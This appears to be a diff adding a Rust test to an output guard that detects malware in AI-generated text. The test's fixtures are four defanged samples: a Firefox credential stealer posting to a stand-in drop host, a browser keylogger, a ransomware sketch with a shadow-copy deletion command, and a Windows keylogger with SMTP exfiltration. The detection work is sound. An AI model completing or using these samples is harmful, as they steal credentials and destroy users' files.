@@ -266,3 +266,47 @@ fn lookalikes_concatenated_pass() {
         assert_eq!(streamed(&g, text, 4), None);
     }
 }
+
+/// Artefacts written differently from the corpus (other languages, other APIs), defanged the same way: the
+/// rules are about capabilities, not about the corpus's wording.
+#[test]
+fn unseen_variants_are_blocked() {
+    let g = OutputGuard::new();
+    let cases = [
+        (
+            "output.stealer",
+            "```python\nimport os, glob, requests\nprofiles = glob.glob(os.path.expanduser('~') + '/AppData/Roaming/Mozilla/Firefox/Profiles/*')\n\
+             for p in profiles:\n    logins = open(os.path.join(p, 'logins.json')).read()\n    key = open(os.path.join(p, 'key4.db'), 'rb').read()\n\
+             requests.post('https://drop.example.invalid/removed', files={'l': logins, 'k': key})  # defanged\n```",
+        ),
+        (
+            "output.keylogger",
+            "```html\n<script>\nlet buf = '';\ndocument.addEventListener('keydown', (e) => { buf += e.key; });\n\
+             setInterval(() => { fetch('https://k.example.invalid/removed', { method: 'POST', body: buf }); buf = ''; }, 5000);\n</script>\n```",
+        ),
+        (
+            "output.ransomware",
+            "```cpp\n#include <filesystem>\n#include <openssl/evp.h>\nnamespace fs = std::filesystem;\nint main() {\n\
+             for (auto& e : fs::recursive_directory_iterator(\"/nonexistent\")) {\n    EVP_EncryptUpdate(ctx, out, &n, in, len); // removed\n\
+             fs::remove(e.path());\n  }\n  system(\"vssadmin delete shadows /all /quiet\");\n  return 0;\n}\n```",
+        ),
+        (
+            "output.keylogger",
+            "```csharp\nusing System.Net.Mail;\nclass K {\n  [DllImport(\"user32.dll\")] static extern short GetAsyncKeyState(int k);\n\
+             static void Main() {\n    var log = \"\";\n    while (true) { for (int i = 8; i < 256; i++) if (GetAsyncKeyState(i) == -32767) log += (char)i; }\n\
+             var c = new SmtpClient(\"smtp.example.invalid\"); // removed\n  }\n}\n```",
+        ),
+    ];
+    for (rule, text) in cases {
+        assert_eq!(
+            g.scan_whole(text).map(|b| b.rule_id),
+            Some(rule.to_string()),
+            "{text}"
+        );
+        assert_eq!(
+            streamed(&g, text, 2).map(|b| b.rule_id),
+            Some(rule.to_string()),
+            "{text}"
+        );
+    }
+}
